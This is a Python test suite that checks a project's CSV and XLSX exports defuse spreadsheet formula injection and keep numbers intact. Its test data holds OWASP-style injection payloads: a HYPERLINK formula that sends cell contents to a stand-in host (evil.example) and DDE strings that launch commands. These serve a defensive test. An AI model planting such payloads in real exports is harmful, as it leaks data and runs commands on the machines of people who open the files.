"""Exports keep text as text: nothing a user typed becomes a live formula in the CSV or XLSX
an officer opens, whatever list or figure it comes from; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

import esep
from esep.lib.tables import csv_bytes, neutralised, unneutralised, xlsx_bytes

# What an attacker types into a name or a text, as OWASP lists them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
HARMLESS = ["Жол бұзылған", "Омарова А.", "", "2+2", "a=b", "e-mail: x@y"]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_would_run_as_formulas_get_a_leading_apostrophe(text):
    header, row = read_csv(csv_bytes([text], [[text, "ok"]]))
    assert header == row[:1] == ["'" + text]
    assert row[1] == "ok"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(text):
    assert read_csv(csv_bytes(["h"], [[text]]))[1] == [text]


def test_numbers_stay_numbers():
    row = read_csv(csv_bytes(["n"], [[-3, 2.5, Decimal("-0.5"), 0, None]]))[1]
    assert row == ["-3", "2.5", "-0.5", "0", ""]
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["n"], [[-3, 2.5, Decimal("-0.5")]]))).active
    assert sheet is not None
    cells = next(sheet.iter_rows(min_row=2, values_only=True))
    assert cells == (-3, 2.5, -0.5)


def test_xlsx_writes_formula_like_text_as_string_cells_not_formulas():
    content = xlsx_bytes("=title", FORMULAS[:1], [FORMULAS])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [sheet["A1"], *sheet[2]]
    # Shown as typed (XML reads a carriage return as a line feed), and a string: a
    # spreadsheet does not evaluate it.
    typed = [text.replace("\r", "\n") for text in FORMULAS[:1] + FORMULAS]
    assert [c.value for c in cells] == typed
    assert {c.data_type for c in cells} == {"s"}
    # No formula element anywhere in the sheet's XML.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, "'=1", "''+x", "'plain", "'", "'-"])
def test_the_importer_reads_back_exactly_what_was_exported(text):
    assert unneutralised(neutralised(text)) == text


def test_unneutralised_takes_off_only_the_apostrophe_an_export_adds():
    assert unneutralised("'=1+1") == "=1+1"
    assert unneutralised("'plain") == "'plain"
    assert unneutralised("'") == "'"


def test_no_csv_or_xlsx_is_written_anywhere_but_through_lib_tables():
    # One place neutralises every export: a new writer elsewhere would bypass it.
    root = Path(esep.__file__).parent
    writer = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")
    found = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path != root / "lib" / "tables.py"
        and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert found == []


def test_a_template_to_fill_in_keeps_formulas_as_text_and_lists_its_choices():
    from openpyxl import load_workbook

    from esep.lib.tables import TemplateColumn, xlsx_template

    columns = [
        TemplateColumn('=HYPERLINK("http://x")', choices=["=1+1", "Тұрғын үй, ЖКШ"]),
        TemplateColumn("text", prompt="Anything", required=True),
    ]
    data = xlsx_template("Appeals", columns, ["@SUM(A1)", "жол"], rows=10, off_list="Off")
    book = load_workbook(io.BytesIO(data))
    sheet, lists = book["Appeals"], book["lists"]
    assert lists.sheet_state == "hidden"
    cells = [sheet["A1"], sheet["A2"], lists["A2"], lists["A3"]]
    assert [c.value for c in cells] == [
        '=HYPERLINK("http://x")',
        "@SUM(A1)",
        "=1+1",
        "Тұрғын үй, ЖКШ",
    ]
    assert {c.data_type for c in cells} == {"s"}
    rules = {str(rule.sqref): rule for rule in sheet.data_validations.dataValidation}
    assert rules["A2:A11"].formula1 == "'lists'!$A$2:$A$3"
    assert rules["B2:B11"].prompt == "Anything"
